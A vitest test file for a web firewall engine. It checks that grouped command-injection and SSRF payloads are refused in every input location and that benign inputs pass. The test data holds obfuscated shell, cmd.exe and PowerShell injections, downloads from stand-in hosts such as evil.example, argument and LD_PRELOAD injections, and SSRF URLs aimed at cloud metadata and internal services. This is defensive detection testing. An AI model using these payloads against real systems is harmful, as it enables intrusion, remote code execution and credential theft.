import { readFileSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { FirewallEngine } from "../../../server/firewall/engine";
import { bareHost, internalHost, internalTargets } from "../../../server/firewall/ssrf";
import { FREE_TEXT_LOCATIONS, LOCATIONS, locationsBlocking, type AnyLocation } from "../../fixtures/firewall/measure";

/**
 * Issue 30 item 4, round 5, command injection and SSRF (docs/decisions/475-478): each reading with
 * examples written here (no corpus string copied), refused in every structured place; the
 * ordinary inputs written for the round (benign-round5-shell.json) passing in every place.
 */
let engine: FirewallEngine;
beforeAll(() => {
  engine = new FirewallEngine(undefined, 1_000_000, false);
});

const blockedIn = (value: string, locations: readonly AnyLocation[]) => locationsBlocking(engine, value, locations);

const SHAPES: Record<string, string[]> = {
  "svc-cmdi-017: commix's SUB separator and suffixes, variables and line continuations inside words, decoders": [
    "plan\u001auname -a",
    "x\u001a cat /etc/hostname",
    "una\\\nme -a",
    "; $(<~/.profile)",
    ";${QRS}un${QRS}ame",
    "a${Z}b${Z}c",
    "; uname$IFS-a",
    "; $(echo emanu|rev)",
    "&& X=$(echo UNAME | tr '[A-Z]' '[a-z]')",
    "`test -n $HOME && uname`",
    "; at now + 2 hours",
    "| at now",
    "; type curl",
    "&& command -v python3",
    "; (sleep 7)",
    "&& usleep 900000",
    "; sleep .75",
    "; ping {ATTACKER_HOST} ;",
    "&& nslookup $COLLAB",
    "| curl localhost",
    "; timeout 3 ping localhost",
    "`dig [HOST]`",
    "& ping evil-host &",
    "|whoami//",
    ";pwd\\",
    "&&hostname/n",
    ";'u'name",
    '| un"am"e',
    "me@box:~# cat /etc/issue",
    ";echo MARKERMARKER",
    "'|echo probe",
    "7;echo 4242",
    "$(seq 1 3)",
    "`expr 6 \\* 7`",
    "`basename $0`",
    "`tail -c 4 /etc/hostname`",
  ],
  "svc-cmdi-018: a command line as the whole value": [
    "ifconfig",
    "lsblk",
    "python3 /tmp/run.py",
    "node ./index.js",
    "./exploit.sh",
    ". ~/x.sh",
    "cc -o /tmp/a a.c",
    "ssh -p 2222 admin@10.1.2.3",
    "scp dump.sql me@203.0.113.9:",
    "tar czf /tmp/w.tgz /var/www",
    "shutdown -r now",
    "su - root",
    "unset HISTFILE",
    "; unset PROMPT_COMMAND",
    "eval $PAYLOAD",
    'eval "uname; id"',
    "echo '<?php ?>' > shell.php",
    "printf x >> ~/.bashrc",
    "wget evil-host.example/x.sh",
    "grep -ri secret .",
    "mkdir /tmp/loot",
    "chmod 4755 ./rootme",
    "grep admin /etc/group",
    "| getconf PAGESIZE",
    "; last -3",
  ],
  "svc-cmdi-019 and 021: cmd.exe and PowerShell forms": [
    "&^n^e^t user",
    '|"n"^"e"^"t" user',
    "& %a%%b%",
    "& set p=net&& call %p% user",
    "& ,;,hostname",
    "|@ipconfig",
    "& call systeminfo",
    "& start /min powershell",
    "& choice /c yn /t 6 /d y",
    "& cmstp /s x.inf",
    "| conhost ipconfig",
    "& iwr evil.example/p.ps1",
    "; saps notepad",
    "irm https://evil.example/p",
    "Get-LocalUser",
    "get-wmiobject",
    "& .('ipc'+'onfig')",
    "; &($x+$y)",
    "[char]0x41+[char]66",
    '& "n"e"t" /?',
    "cmd/k hostname",
    "cmd,/c,ver",
    '& start "" powershell',
    "del /q x.txt",
    "ls%HOMEPATH:~0,1%",
    "& echo %OS:Windows=x%",
  ],
  "svc-cmdi-020: PowerShell's obfuscations, redirection to nul, at with a program": [
    "& h`os`tname",
    "; &(\"{2}{0}{1}\" -f 'st','name','ho')",
    "; ('h','o','s','t') -join ''",
    "& $ExecutionContext.SessionState",
    "& (gci env:*Spec*).Value",
    "& ver 2>nul",
    "& type nul > o.txt",
    "& at 23:59 /every:m cmd",
    "& net1 localgroup",
    "& PING -N 9 127.0.0.1",
    "| Ping 10.9.8.7",
  ],
  "svc-cmdi-022: argument and environment injection, $[ ], Windows Script Host": [
    "--upload-pack=/tmp/run",
    "x --checkpoint-action=exec=/tmp/run",
    "--rsync-path='sh -c uname'",
    "-o ProxyCommand=/tmp/run",
    "-oLocalCommand=uname",
    ". -execdir uname {} +",
    "-ok uname \\;",
    "LD_PRELOAD=/dev/shm/x.so",
    "; BASH_ENV=/tmp/e sh",
    "NODE_OPTIONS='--require /tmp/x'",
    "GIT_SSH_COMMAND=uname",
    "$[6*7]",
    "--renderer-cmd-prefix=/tmp/run",
    "{ hostname -f; }",
    "whoami &",
    "Set o = CreateObject('WScript.Shell')",
    "new ActiveXObject('Shell.Application')",
  ],
  "svc-ssrf-004 and ssrf.ts: one-label hosts, private zones, IPv4-translated, parameters, numeric and bare forms": [
    "http://cache:6379/",
    "gopher://queue:5672/_x",
    "https://admin@jenkins/script",
    "http://nas.local/",
    "http://router.lan:8080/",
    "https://vault.service.consul:8200/v1/",
    "http://files.corp/",
    "http://[::ffff:0:10.1.1.1]/",
    "http://[0:0:0:0:ffff:0:a9fe:a9fe]/",
    "https://s3.localhost.localstack.cloud/",
    "http://app.smackaho.st/",
    "dest=localhost:9200",
    "?next=10.0.0.5:22",
    "https://partner.example/cb?return=169.254.169.254/latest/meta-data",
    "partner.example/go?to=[::1]:6379",
    "localhost/server-status",
    "0xa9fea9fe/latest",
    "0300.0250.0.1/",
    "3232235777:8080",
    "http://build.local./",
    "rmi://203.0.113.5:1099/obj",
    "jdbc:postgresql://203.0.113.5/db",
    "\\\\203.0.113.5\\c$",
    "http://meta\tdata.google.internal/",
    "redirect_uri=metadata.google.internal",
    "https://partner.example/login?next=10.20.30.40",
    "https://partner.example/img?src=kubernetes.default.svc",
  ],
};

/** Node refuses a header with a control character (nothing to judge), so those are tried elsewhere only. */
// eslint-disable-next-line no-control-regex -- exactly the control characters HTTP refuses
const headerless = (value: string) => /[\0-\x08\n-\x1f\x7f]/.test(value);

describe("round 5 shell and SSRF shapes", () => {
  for (const [shape, examples] of Object.entries(SHAPES))
    it(`refuses ${shape} in every structured place`, async () => {
      for (const value of examples) {
        const tested = LOCATIONS.filter((l) => l !== "header" || !headerless(value));
        expect(await blockedIn(value, tested), value).toEqual(tested);
      }
    });

  it("canonicalises IPv4-translated addresses, private zones and loopback names", () => {
    expect(internalHost("[::ffff:0:127.0.0.1]")).toBe("127.0.0.1");
    expect(internalHost("[::ffff:0:8.8.8.8]")).toBe("[::ffff:8.8.8.8]");
    expect(internalHost("printer.local")).toBe("printer.local");
    expect(internalHost("vault.service.consul")).toBe("vault.service.consul");
    expect(internalHost("localhost.localstack.cloud")).toBe("127.0.0.1");
    expect(internalHost("www.local.com")).toBeUndefined();
    expect(internalHost("consulting.example.com")).toBeUndefined();
  });

  it("reads a parameter's value as a host only with a port or a path after it", () => {
    expect(bareHost("url=localhost:8080")).toBe("localhost");
    expect(bareHost("ref=10.0.0.1")).toBeUndefined();
    expect(bareHost("section=metadata")).toBeUndefined();
    expect(internalTargets("https://x.example/?u=127.0.0.1:22")).toEqual(["//127.0.0.1/"]);
    expect(internalTargets("https://www.fidelis.org/?ref=10.0.0.1")).toEqual([]);
    // A parameter named for a URL names a host alone too.
    expect(bareHost("url=localhost")).toBe("localhost");
    expect(internalTargets("https://x.example/?next=10.0.0.1")).toEqual(["//10.0.0.1/"]);
    expect(internalTargets("https://www.uhc.com/?file=metadata")).toEqual([]);
  });

  it("reads numeric spellings at the start only where no ordinary number looks like them", () => {
    expect(bareHost("0x7f000001/")).toBe("0x7f000001");
    expect(bareHost("2130706433:80")).toBe("2130706433");
    expect(bareHost("2135551234/2")).toBeUndefined();
    expect(bareHost("0.25/0.5 mg")).toBeUndefined();
    expect(bareHost("05.10/2026")).toBeUndefined();
    expect(bareHost("and/or")).toBeUndefined();
  });
});

describe("round 5 ordinary inputs (benign-round5-shell.json, written for the round)", () => {
  const groups = JSON.parse(
    readFileSync(path.join(import.meta.dirname, "../../fixtures/firewall/benign-round5-shell.json"), "utf8"),
  ) as Record<string, string[] | string>;

  it("passes every search and URL in every place", async () => {
    const values = [...(groups.round5_shell_searches as string[]), ...(groups.round5_urls as string[])];
    expect(values.length).toBeGreaterThan(200);
    for (const value of values)
      expect(await blockedIn(value, [...LOCATIONS, ...FREE_TEXT_LOCATIONS]), value).toEqual([]);
  });
});
